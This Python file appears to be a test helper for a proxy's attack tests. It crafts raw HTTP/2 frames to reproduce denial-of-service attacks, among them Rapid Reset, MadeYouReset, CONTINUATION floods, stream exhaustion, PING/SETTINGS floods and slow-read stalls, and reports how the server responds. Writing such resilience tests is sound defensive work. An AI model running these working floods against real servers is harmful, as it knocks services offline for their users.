"""Hostile HTTP/2 clients for the attack tests (netns-tests/tests/attack.rs), made of raw
frames with `hyperframe` and `hpack` (PyPI, the frame and header layers of `h2`), so that
they can send what a well-behaved HTTP/2 library never would.

    h2_attack.py MODE HOST PORT [--count N] [--path P] [--size BYTES] [--hold SECONDS]
                 [--tls CERT KEY CA SERVER_NAME] [--transport-port PORT]

Modes (each prints one JSON object on stdout, then exits):

- `rapid-reset`: HEADERS then RST_STREAM(CANCEL) for --count streams, in batches
  (CVE-2023-44487). Reports the GOAWAY the server sent, if any, and how many were sent.
- `made-you-reset`: a POST head saying `content-length: 1`, then 2 bytes of DATA, which
  the server must answer with RST_STREAM(PROTOCOL_ERROR) (a malformed request), for
  --count streams in batches: the reset is the server's, so the rapid-reset bound on
  the client's resets does not see it, while the request was already taken up
  (CVE-2025-8671, "MadeYouReset"; h2 answers its other triggers, DATA on a closed
  stream or a WINDOW_UPDATE of 0, with a GOAWAY).
- `continuation`: one HEADERS without END_HEADERS, then up to --count tiny CONTINUATION
  frames that never end the header block (the CVE-2024-27316 class).
- `big-headers`: one request whose header list is --size bytes, split into CONTINUATION
  frames; then a normal request on the same connection. Reports both answers.
- `streams`: --count GETs of --path (a large file) sent at once, whose responses stay
  unfinished since the client never opens its window, so each stream stays open. Reports
  the server's SETTINGS_MAX_CONCURRENT_STREAMS and how many streams it refused.
- `ping-flood`, `settings-flood`: --count PING (or empty SETTINGS) frames written without
  ever reading the socket. Reports how many were written before the writes blocked.
- `idle`: one GET of --path, then nothing for --hold seconds. Reports how long after the
  response the server's GOAWAY came, if it did.
- `no-read`: a 2 GiB window, then --count GETs of --path, and nothing read for --hold
  seconds (prints `holding` on stderr when the requests are out); with --then-drain S,
  then raw reads for up to S seconds: did the server end the connection, and when.
- `no-window`: stream windows of 0 (SETTINGS_INITIAL_WINDOW_SIZE), one GET of --path, and
  the socket read for --hold seconds without ever opening that stream's window (with
  --grant BYTES --every SECONDS: opening it by BYTES that often); then a GET of /ok with
  its window open. Reports whether and when (after its response's head) the first stream
  was reset, the DATA bytes it got, and the second's status.

With --tls the connection is TLS 1.3 with the client certificate CERT/KEY, the server
verified against CA as SERVER_NAME, and ALPN `transport.l5d.io/v1`; the transport header
naming --transport-port and HTTP/2 is sent before the preface, as a mesh peer's proxy does
before its pooled HTTP/2 connection.
"""

import argparse
import json
import socket
import ssl
import struct
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
MAX_WINDOW = 2**31 - 1


def transport_header(port):
    """Linkerd's transport header naming `port` with session protocol HTTP/2 (protobuf
    {1: port, 3: {2: {}}}), what a peer proxy sends before its pooled HTTP/2 connection."""
    message = bytearray([0x08])
    while True:
        byte = port & 0x7F
        port >>= 7
        if port == 0:
            message.append(byte)
            break
        message.append(byte | 0x80)
    message += b"\x1a\x02\x12\x00"
    return b"transport.l5d.io/v1\r\n\r\n" + struct.pack(">I", len(message)) + bytes(message)


class Conn:
    """One HTTP/2 connection: frames out, frames in, and what the server said."""

    def __init__(self, args, rcvbuf=None):
        family = socket.AF_INET6 if ":" in args.host else socket.AF_INET
        sock = socket.socket(family, socket.SOCK_STREAM)
        if rcvbuf:
            # Small, so that a server writing to a client that does not read blocks soon.
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.settimeout(10)
        sock.connect((args.host, args.port))
        if args.tls:
            cert, key, ca, name = args.tls
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.minimum_version = ssl.TLSVersion.TLSv1_3
            context.load_cert_chain(cert, key)
            context.load_verify_locations(ca)
            context.set_alpn_protocols(["transport.l5d.io/v1"])
            sock = context.wrap_socket(sock, server_hostname=name)
            sock.sendall(transport_header(args.transport_port))
        self.sock = sock
        host = f"[{args.host}]" if ":" in args.host else args.host
        self.authority = args.authority or f"{host}:{args.port}"
        self.encoder = hpack.Encoder()
        self.buf = b""
        self.closed = False
        self.goaway = None
        self.goaway_at = None
        self.closed_at = None
        self.response_at = None
        self.resets = {}
        self.statuses = {}
        # Per stream: when its response head came, its status, its DATA bytes, and
        # when and how it was reset.
        self.head_at = {}
        self.status_of = {}
        self.data = {}
        self.reset_of = {}
        # Each stream's DATA bytes themselves, when a mode sets it to {} (ws_h2.py).
        self.kept = None
        self.server_settings = {}
        self.next_id = 1
        sock.sendall(PREFACE + SettingsFrame(0).serialize())

    def send(self, frames):
        self.sock.sendall(b"".join(f.serialize() for f in frames))

    def request_headers(self, path, method="GET", extra=()):
        headers = [
            (":method", method),
            (":scheme", "http"),
            (":authority", self.authority),
            (":path", path),
        ]
        return self.encoder.encode(headers + list(extra))

    def new_stream(self):
        stream = self.next_id
        self.next_id += 2
        return stream

    def read(self, seconds):
        """Reads frames for up to `seconds` (or until closed), recording them."""
        deadline = time.monotonic() + seconds
        while not self.closed:
            left = deadline - time.monotonic()
            if left <= 0:
                return
            self.sock.settimeout(left)
            try:
                data = self.sock.recv(65536)
            except (socket.timeout, TimeoutError):
                return
            except (ConnectionError, ssl.SSLError, OSError):
                self.closed = True
                self.closed_at = time.monotonic()
                return
            if not data:
                self.closed = True
                self.closed_at = time.monotonic()
                return
            self.buf += data
            self.parse()

    def parse(self):
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            frame.parse_body(memoryview(self.buf[9 : 9 + length]))
            self.buf = self.buf[9 + length :]
            if isinstance(frame, GoAwayFrame):
                self.goaway_at = time.monotonic()
                self.goaway = {
                    "error_code": frame.error_code,
                    "last_stream_id": frame.last_stream_id,
                    "debug": frame.additional_data.decode("utf-8", "replace"),
                }
            elif isinstance(frame, RstStreamFrame):
                self.resets[frame.error_code] = self.resets.get(frame.error_code, 0) + 1
                self.reset_of[frame.stream_id] = (time.monotonic(), frame.error_code)
            elif isinstance(frame, DataFrame):
                self.data[frame.stream_id] = self.data.get(frame.stream_id, 0) + len(frame.data)
                if self.kept is not None:
                    self.kept[frame.stream_id] = self.kept.get(frame.stream_id, b"") + frame.data
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                self.server_settings.update(frame.settings)
                self.send([SettingsFrame(0, flags=["ACK"])])
            elif isinstance(frame, HeadersFrame):
                self.response_at = time.monotonic()
                # The status is read from the block's first byte (see `_status`), so
                # no HPACK decoder has to follow the server's dynamic table.
                status = _status(frame.data)
                if status:
                    self.statuses[status] = self.statuses.get(status, 0) + 1
                self.head_at.setdefault(frame.stream_id, self.response_at)
                self.status_of.setdefault(frame.stream_id, status)

    def report(self):
        return {
            "closed": self.closed,
            "goaway": self.goaway,
            "resets": {str(k): v for k, v in self.resets.items()},
            "statuses": self.statuses,
            "max_concurrent_streams": self.server_settings.get(
                SettingsFrame.MAX_CONCURRENT_STREAMS
            ),
        }


def drain(sock, seconds):
    """Reads raw bytes for up to `seconds`: did the server end the connection (EOF or a
    reset), after how long, and how many bytes came before."""
    started = time.monotonic()
    drained = 0
    while time.monotonic() - started < seconds:
        sock.settimeout(max(0.01, seconds - (time.monotonic() - started)))
        try:
            data = sock.recv(1 << 20)
        except (socket.timeout, TimeoutError):
            break
        except (ConnectionError, OSError):
            data = b""
        if not data:
            return {"ended": True, "ended_after": round(time.monotonic() - started, 3), "drained": drained}
        drained += len(data)
    return {"ended": False, "drained": drained}


def _status(block):
    """`:status` of a response header block, when the server used the static table
    (0x88 = 200 ... 0x8e = 500) or a literal; None otherwise."""
    static = {0x88: "200", 0x89: "204", 0x8A: "206", 0x8B: "304", 0x8C: "400", 0x8D: "404", 0x8E: "500"}
    if block and block[0] in static:
        return static[block[0]]
    # Literal with indexed name 8 (`:status`), 3-byte value, no Huffman.
    if len(block) >= 5 and block[0] in (0x08, 0x48, 0x18) and block[1] == 3:
        return block[2:5].decode("ascii", "replace")
    return "other"


def sendall_until_blocked(conn, frame_bytes, count, block_after):
    """Writes `frame_bytes` `count` times without reading; returns how many were written
    before a write blocked for `block_after` seconds (or the server closed)."""
    conn.sock.settimeout(block_after)
    written = 0
    chunk = frame_bytes * 256
    try:
        while written < count:
            conn.sock.sendall(chunk)
            written += 256
    except (socket.timeout, TimeoutError):
        return written, True
    except (ConnectionError, OSError):
        conn.closed = True
    return written, False


def stream_flood(args, frames_for):
    """Opens --count streams, 100 to a write, each with `frames_for(conn, stream)`, until
    the server sends a GOAWAY or closes; then reads for 5 s. The connection, and how many
    streams were sent."""
    conn = Conn(args)
    conn.read(0.5)
    sent = 0
    try:
        while sent < args.count and not conn.closed and conn.goaway is None:
            frames = []
            for _ in range(100):
                frames += frames_for(conn, conn.new_stream())
            conn.send(frames)
            sent += 100
            conn.read(0.001)
    except (ConnectionError, OSError):
        conn.closed = True
    conn.read(5)
    return conn, {"sent": sent}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("mode")
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--path", default="/ok")
    parser.add_argument("--authority")
    parser.add_argument("--size", type=int, default=1 << 20)
    parser.add_argument("--hold", type=float, default=5.0)
    parser.add_argument("--then-drain", type=float, default=0.0)
    parser.add_argument("--grant", type=int, default=0)
    parser.add_argument("--every", type=float, default=0.5)
    parser.add_argument("--tls", nargs=4)
    parser.add_argument("--transport-port", type=int, default=0)
    args = parser.parse_args()
    started = time.monotonic()
    result = {}

    if args.mode == "rapid-reset":
        conn, result = stream_flood(
            args,
            lambda conn, stream: [
                HeadersFrame(stream, conn.request_headers(args.path), flags=["END_HEADERS", "END_STREAM"]),
                RstStreamFrame(stream, error_code=CANCEL),
            ],
        )
    elif args.mode == "made-you-reset":
        conn, result = stream_flood(
            args,
            lambda conn, stream: [
                HeadersFrame(
                    stream,
                    conn.request_headers(args.path, "POST", [("content-length", "1")]),
                    flags=["END_HEADERS"],
                ),
                DataFrame(stream, b"xx", flags=["END_STREAM"]),
            ],
        )
    elif args.mode == "continuation":
        conn = Conn(args)
        conn.read(0.5)
        stream = conn.new_stream()
        block = conn.request_headers(args.path)
        sent = 0
        try:
            conn.send([HeadersFrame(stream, block, flags=[])])
            while sent < args.count and not conn.closed and conn.goaway is None:
                # Each adds one byte of a literal header that never ends.
                conn.send([ContinuationFrame(stream, b"\x00", flags=[]) for _ in range(100)])
                sent += 100
                conn.read(0.001)
        except (ConnectionError, OSError):
            conn.closed = True
        conn.read(5)
        result = {"sent": sent}
    elif args.mode == "big-headers":
        conn = Conn(args)
        conn.read(0.5)
        stream = conn.new_stream()
        # Literal headers without indexing, so the block really is --size bytes.
        value = "v" * 4000
        extra = [(f"x-big-{i}", value) for i in range(max(1, args.size // 4000))]
        encoder = hpack.Encoder()
        block = encoder.encode(
            [(":method", "GET"), (":scheme", "http"), (":authority", conn.authority), (":path", args.path)]
            + [hpack.NeverIndexedHeaderTuple(n, v) for n, v in extra]
        )
        conn.encoder = encoder
        frames = []
        first, rest = block[:16384], block[16384:]
        frames.append(HeadersFrame(stream, first, flags=["END_STREAM"] + ([] if rest else ["END_HEADERS"])))
        while rest:
            piece, rest = rest[:16384], rest[16384:]
            frames.append(ContinuationFrame(stream, piece, flags=[] if rest else ["END_HEADERS"]))
        try:
            conn.send(frames)
        except (ConnectionError, OSError):
            conn.closed = True
        conn.read(3)
        big = conn.report()
        conn.statuses = {}
        if not conn.closed:
            stream = conn.new_stream()
            try:
                conn.send([HeadersFrame(stream, conn.request_headers("/ok"), flags=["END_HEADERS", "END_STREAM"])])
            except (ConnectionError, OSError):
                conn.closed = True
            conn.read(3)
        result = {"block_bytes": len(block), "big": big, "after": dict(conn.statuses)}
    elif args.mode == "streams":
        conn = Conn(args)
        conn.read(0.5)
        frames = []
        for _ in range(args.count):
            stream = conn.new_stream()
            block = conn.request_headers(args.path)
            frames.append(HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]))
        conn.send(frames)
        conn.read(args.hold)
        result = {"opened": args.count}
    elif args.mode == "idle":
        conn = Conn(args)
        stream = conn.new_stream()
        conn.send([HeadersFrame(stream, conn.request_headers(args.path), flags=["END_HEADERS", "END_STREAM"])])
        conn.read(args.hold)
        def after(at):
            if at is None or conn.response_at is None:
                return None
            return round(at - conn.response_at, 3)

        result = {
            "goaway_after_response": after(conn.goaway_at),
            "closed_after_response": after(conn.closed_at),
        }
    elif args.mode in ("ping-flood", "settings-flood"):
        conn = Conn(args, rcvbuf=4096)
        conn.read(0.5)
        if args.mode == "ping-flood":
            frame = PingFrame(0, opaque_data=b"12345678").serialize()
        else:
            frame = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()
        written, blocked = sendall_until_blocked(conn, frame, args.count, 3)
        result = {"written": written, "blocked": blocked, "seconds": round(time.monotonic() - started, 3)}
    elif args.mode == "no-read":
        conn = Conn(args, rcvbuf=4096)
        conn.send(
            [
                SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: MAX_WINDOW}),
                WindowUpdateFrame(0, window_increment=MAX_WINDOW - 65535),
            ]
        )
        frames = []
        for _ in range(args.count):
            stream = conn.new_stream()
            frames.append(HeadersFrame(stream, conn.request_headers(args.path), flags=["END_HEADERS", "END_STREAM"]))
        conn.send(frames)
        print("holding", file=sys.stderr, flush=True)
        time.sleep(args.hold)
        result = {"opened": args.count}
        if args.then_drain:
            result.update(drain(conn.sock, args.then_drain))
    elif args.mode == "no-window":
        conn = Conn(args)
        conn.send([SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})])
        stalled = conn.new_stream()
        conn.send([HeadersFrame(stalled, conn.request_headers(args.path), flags=["END_HEADERS", "END_STREAM"])])
        deadline = time.monotonic() + args.hold
        while not conn.closed and time.monotonic() < deadline:
            conn.read(min(args.every, deadline - time.monotonic()))
            if args.grant and stalled not in conn.reset_of and not conn.closed:
                # The connection's window too, so that only the stream's is the limit.
                conn.send(
                    [
                        WindowUpdateFrame(stalled, window_increment=args.grant),
                        WindowUpdateFrame(0, window_increment=args.grant),
                    ]
                )
        reset = conn.reset_of.get(stalled)
        head_at = conn.head_at.get(stalled)
        result = {
            "stalled": {
                "status": conn.status_of.get(stalled),
                "bytes": conn.data.get(stalled, 0),
                "reset_code": reset[1] if reset else None,
                "reset_after": round(reset[0] - head_at, 3) if reset and head_at else None,
            }
        }
        if not conn.closed:
            second = conn.new_stream()
            conn.send(
                [
                    HeadersFrame(second, conn.request_headers("/ok"), flags=["END_HEADERS", "END_STREAM"]),
                    WindowUpdateFrame(second, window_increment=65535),
                ]
            )
            conn.read(2)
            result["next_status"] = conn.status_of.get(second)
    else:
        sys.exit(f"unknown mode {args.mode}")

    result.update(conn.report())
    result["seconds"] = round(time.monotonic() - started, 3)
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
